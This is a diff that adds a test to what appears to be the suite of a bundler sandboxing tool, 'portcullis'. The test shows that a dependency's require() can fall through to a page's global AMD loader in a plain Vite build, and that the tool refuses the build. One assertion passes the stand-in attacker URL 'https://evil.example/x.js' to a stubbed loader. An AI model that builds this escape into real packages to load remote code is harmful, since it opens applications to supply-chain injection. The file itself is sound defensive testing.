@@ -80,4 +80,22 @@ describe('row 58: bundler helpers', () => {
     expect(plain.code).toContain('fetch(d)');
     await expect(rollupBuild(app, { before: [helper] })).rejects.toThrow(/imports the virtual module "\\0real-document-helper", which is not a package.*PORTCULLIS_IMPORT_DENIED/s);
   });
+
+  it("vite build: Rolldown's require() helper reaches the page's global require (an AMD loader) in a plain build, and is refused", async () => {
+    const app = makeApp({
+      'package.json': { name: 'app', dependencies: { pkg: '*' } },
+      'main.js': `export { load } from 'pkg';`,
+      'portcullis.policy.json': { resources: { pkg: {} } },
+      ...localPackage('pkg', { 'index.js': `exports.load = (name) => require(name);` }, { type: 'commonjs' }),
+    });
+    const realm = windowLikeContext();
+    vm.runInContext(`globalThis.require = (name) => 'the page loader loaded ' + name;`, realm.context);
+    const mod = new vm.SourceTextModule((await viteBuild(app, { portcullis: false })).code, { context: realm.context });
+    await mod.link(() => {
+      throw new Error('no imports');
+    });
+    await mod.evaluate();
+    expect((mod.namespace as { load: (n: string) => string }).load('https://evil.example/x.js')).toBe('the page loader loaded https://evil.example/x.js');
+    await expect(viteBuild(app)).rejects.toThrow(/node_modules\/pkg\/index\.js \(package "pkg"\) reaches the bundler's require\(\), which falls back to the page's global require.*PORTCULLIS_UNCONFINED_CODE/s);
+  });
 });
